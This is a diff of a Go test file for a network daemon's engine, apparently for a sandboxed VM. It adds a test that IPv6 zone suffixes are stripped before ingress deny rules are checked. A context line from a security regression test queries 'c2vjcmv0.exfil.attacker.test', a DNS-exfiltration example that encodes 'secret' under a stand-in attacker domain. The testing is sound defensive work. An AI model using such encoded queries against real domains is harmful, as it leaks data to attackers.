@@ -1,9 +1,12 @@
 package engine
 
 import (
+	"net/netip"
 	"testing"
 
 	"github.com/miekg/dns"
+
+	"krunbox.dev/netd/internal/config"
 )
 
 // Regression tests for the hostile review of the engine (issue 15's
@@ -90,4 +93,23 @@ func TestHostProfileForwardsNoNameUpstream(t *testing.T) {
 	if got := answers(h2.query("10.0.2.3", "udp", "c2vjcmv0.exfil.attacker.test")); len(got) != 1 || !up.saw("c2vjcmv0.exfil.attacker.test") {
 		t.Fatalf("public profile: %v, upstream saw it: %v", got, up.saw("c2vjcmv0.exfil.attacker.test"))
 	}
+}
+
+// A published port's client with an IPv6 zone is checked against the
+// ingress rules like the same address without it.
+func TestIngressClientZoneIsStripped(t *testing.T) {
+	rules := `[{"action":"deny","direction":"ingress","dest":{"kind":"cidr","cidr":"fe80::/10"},"id":"deny@[fe80::/10]:ingress"}]`
+	h := start(t, baseConfig(t, rules, "deny", nil))
+	p := config.Port{Protocol: "tcp", Host: 8080, Guest: 80}
+	if h.e.ingress("tcp", netip.MustParseAddr("fe80::1%lo"), p) {
+		t.Fatal("a zoned link-local client passed deny@[fe80::/10]:ingress")
+	}
+	if evs := h.eventsFor("fe80::1"); len(evs) != 1 || evs[0].Action != "denied" {
+		t.Fatalf("events: %+v", evs)
+	}
+	// Control: another client is admitted (no ingress rule matches it).
+	if !h.e.ingress("tcp", netip.MustParseAddr("::1"), p) {
+		t.Fatal("::1 refused")
+	}
+	h.e.flows.release()
 }
